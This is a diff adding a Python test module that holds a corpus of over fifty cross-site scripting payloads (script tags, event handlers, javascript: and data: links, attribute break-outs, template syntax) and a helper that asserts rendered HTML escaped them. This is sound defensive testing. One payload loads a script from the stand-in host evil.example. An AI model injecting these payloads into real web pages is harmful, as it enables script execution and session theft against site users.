@@ -1,0 +1,70 @@
+"""A corpus of script-injection payloads: tags, event handlers, `javascript:` links, SVG,
+attribute break-outs, template syntax and HTML comment tricks. Every one contains a character
+that HTML escaping must change, so "appears verbatim in the page" means "was not escaped"."""
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<script>document.title='pwned'</script>",
+    "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror='alert(1)'>",
+    '<img src="x" onerror="alert(1)">',
+    "<body onload=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>click</a>",
+    '<a href="javascript:alert(1)">click</a>',
+    "<a href=' javascript:alert(1)'>x</a>",
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
+    "<form action=javascript:alert(1)><button>x</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    '<div style="background:url(javascript:alert(1))">',
+    "<style>@import 'javascript:alert(1)';</style>",
+    "<link rel=stylesheet href=javascript:alert(1)>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href=javascript:alert(1)//>",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    '" autofocus onfocus="alert(1)',
+    '"><img src=x onerror=alert(1)>',
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</option></select><img src=x onerror=alert(1)>",
+    "<!--<script>alert(1)</script>-->",
+    "--><script>alert(1)</script>",
+    "<!--><img src=x onerror=alert(1)>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "{{ 7|add:7 }}<b>x</b>",
+    "{% debug %}<b>x</b>",
+    "${alert(1)}<i>x</i>",
+    "<%= 7*7 %>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;<b>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<img src=`x`onerror=alert(1)>",
+    "<isindex type=image src=1 onerror=alert(1)>",
+]
+assert len(PAYLOADS) >= 50
+assert all(any(character in payload for character in "<>\"'&") for payload in PAYLOADS)
+
+
+def assert_escaped(html: str, payload: str, where: str) -> None:
+    assert payload not in html, f"unescaped payload in {where}: {payload!r}"
+    for attribute in ('href="javascript:', "href='javascript:", 'src="javascript:', "src='javascript:"):
+        assert attribute not in html, f"live {attribute} in {where} for {payload!r}"
